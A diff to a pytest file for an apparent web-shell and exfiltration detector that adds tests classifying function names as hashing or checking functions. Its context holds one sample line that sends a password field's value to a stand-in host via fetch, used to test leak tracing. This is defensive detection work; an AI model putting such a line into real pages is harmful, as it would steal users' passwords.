@@ -6,10 +6,10 @@ import pytest
 
 from tests.client_scripts.test_script_analysis import TAKEN, analysed
 from webshellhunt.analysis import engine
-from webshellhunt.analysis.browser.machine import BrowserMachine
+from webshellhunt.analysis.browser.machine import BrowserMachine, makes_digest, makes_test
 from webshellhunt.analysis.browser.notes import Notes
 from webshellhunt.analysis.browser.source import Piece, source_of
-from webshellhunt.client_scripts.fields import Fields
+from webshellhunt.client_scripts.script_analysis import Fields
 from webshellhunt.lang.symbol_collection import collect
 
 CODE = "a = 1; while (b) { a = f(a); }"
@@ -67,3 +67,21 @@ def test_the_origin_is_the_text_of_the_expression() -> None:
     (leak,) = analysed("fetch('//a.example', document.getElementById('pw').value);").exfiltrations
     assert leak.trace is not None
     assert leak.trace.origin == "document.getElementById('pw').value"
+
+
+@pytest.mark.parametrize(
+    "name", ["md5", "hex_md5", "hex_hmac_md5", "sha256", "sha_1", "createhash", "digest", "bcrypt"]
+)
+def test_digests(name: str) -> None:
+    assert makes_digest(name)
+
+
+@pytest.mark.parametrize("name", ["isvalid", "checkpassword", "zxcvbn", "match", "parseint", "indexof"])
+def test_tests(name: str) -> None:
+    assert makes_test(name)
+
+
+@pytest.mark.parametrize("name", ["encode", "btoa", "send", "escape", "x" * 99, ""])
+def test_other_functions(name: str) -> None:
+    assert not makes_digest(name)
+    assert not makes_test(name)
